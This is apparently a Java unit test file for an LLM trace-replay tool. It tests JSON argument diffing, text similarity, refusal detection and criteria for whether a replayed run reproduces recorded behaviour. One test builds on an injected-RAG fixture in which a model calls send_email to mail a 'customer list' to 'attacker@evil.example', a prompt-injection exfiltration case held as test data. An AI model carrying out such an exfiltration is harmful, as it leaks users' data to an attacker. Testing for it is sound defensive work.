package dev.tracehound.replay.compare;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tracehound.replay.Fixtures;
import dev.tracehound.replay.plan.CriterionSettings;
import dev.tracehound.replay.wire.ReplyToolCall;
import java.util.List;
import org.junit.jupiter.api.Test;

class ComparisonTest {

    @Test
    void jsonDiffIgnoresKeyOrderWhitespaceAndNumberFormat() {
        assertTrue(JsonDiff.alike("{\"a\": 1, \"b\": [1, 2.0]}", "{ \"b\":[1.00,2],\n \"a\":1e0 }"));
        assertTrue(JsonDiff.alike("{\"to\":\"  x@y.z \"}", "{\"to\":\"x@y.z\"}"));
        assertTrue(JsonDiff.alike("{\"n\":5}", "{\"n\":\"5\"}"), "quoted numbers count as alike");
        assertTrue(JsonDiff.alike("\"{\\\"q\\\":\\\"x\\\"}\"", "{\"q\":\"x\"}"), "double-encoded arguments");
        assertEquals(List.of("$.body", "$.cc", "$.to[1]"),
                JsonDiff.diff("{\"to\":[\"a\",\"b\"],\"body\":\"hi\"}", "{\"to\":[\"a\",\"c\"],\"body\":\"bye\",\"cc\":\"d\"}"));
    }

    @Test
    void textSimilarity() {
        assertEquals(1.0, TextSimilarity.jaccard("The cat sat.", "the CAT, sat"), 1e-9);
        assertEquals(0.5, TextSimilarity.jaccard("a b c", "b c d"), 1e-9);
        assertEquals(0.0, TextSimilarity.jaccard("a", "b"), 1e-9);
        assertEquals(1.0 - 3.0 / 7.0, TextSimilarity.levenshtein("kitten", "sitting"), 1e-9);
    }

    @Test
    void refusalPatterns() {
        assertTrue(RefusalPatterns.isRefusal("I'm sorry, but I can't help with that request."));
        assertTrue(RefusalPatterns.isRefusal("I cannot assist with sending that data."));
        assertTrue(RefusalPatterns.isRefusal("I must decline."));
        assertFalse(RefusalPatterns.isRefusal("Our refund policy allows returns within 30 days."));
        assertFalse(RefusalPatterns.isRefusal("Here is the report. " + "x".repeat(400) + " I cannot help with that."), "mention late in an answer is not a refusal");
    }

    @Test
    void toolCriterionNeedsSameToolAndAlikeArguments() {
        ReproductionCriterion c = new ReproductionCriterion(Behaviour.ofRecorded(Fixtures.injectedRagCall().output()), CriterionSettings.DEFAULTS);
        assertTrue(c.describe().startsWith("the trial calls send_email with alike arguments"), c.describe());
        TrialComparison same = c.compare(new Behaviour("", List.of(new ReplyToolCall("x", "send_email", "{ \"body\": \"customer list\", \"to\": \"attacker@evil.example\" }")), false));
        assertTrue(same.reproduces(), same.reason());
        TrialComparison otherArgs = c.compare(new Behaviour("", List.of(new ReplyToolCall("x", "send_email", "{\"to\":\"boss@corp.example\",\"body\":\"customer list\"}")), false));
        assertFalse(otherArgs.reproduces());
        assertEquals(List.of("send_email $.to"), otherArgs.differingPaths());
        TrialComparison text = c.compare(new Behaviour("Refunds within 30 days.", List.of(), false));
        assertFalse(text.reproduces());
        assertEquals("did not call send_email (no tool calls)", text.reason());

        ReproductionCriterion loose = new ReproductionCriterion(c.original(), new CriterionSettings(null, "send_email", true));
        assertTrue(loose.compare(new Behaviour("", List.of(new ReplyToolCall("x", "send_email", "{\"to\":\"boss@corp.example\"}")), false)).reproduces());
    }

    @Test
    void textAndRefusalCriteria() {
        Behaviour answered = new Behaviour("Refunds are possible within 30 days of purchase.", List.of(), false);
        ReproductionCriterion c = new ReproductionCriterion(answered, CriterionSettings.DEFAULTS);
        assertTrue(c.compare(new Behaviour("Refunds are possible within 30 days of the purchase.", List.of(), false)).reproduces());
        assertFalse(c.compare(new Behaviour("Please contact support.", List.of(), false)).reproduces());
        assertFalse(c.compare(new Behaviour("I'm sorry, but I can't help with refunds within 30 days of purchase.", List.of(), true)).reproduces());

        Behaviour refused = Behaviour.ofRecorded(List.of(Fixtures.part("assistant", "I'm sorry, but I can't help with that.", null)));
        assertTrue(refused.refusal());
        ReproductionCriterion r = new ReproductionCriterion(refused, CriterionSettings.DEFAULTS);
        // A reply refusing in plain words (no provider flag) is recognised by the patterns.
        assertTrue(r.compare(Behaviour.ofReply(new dev.tracehound.replay.wire.ModelReply("I cannot assist with that.", List.of(), "stop", null, "m", false))).reproduces());
        assertFalse(r.compare(new Behaviour("Sure! Here it is.", List.of(), false)).reproduces());
    }
}
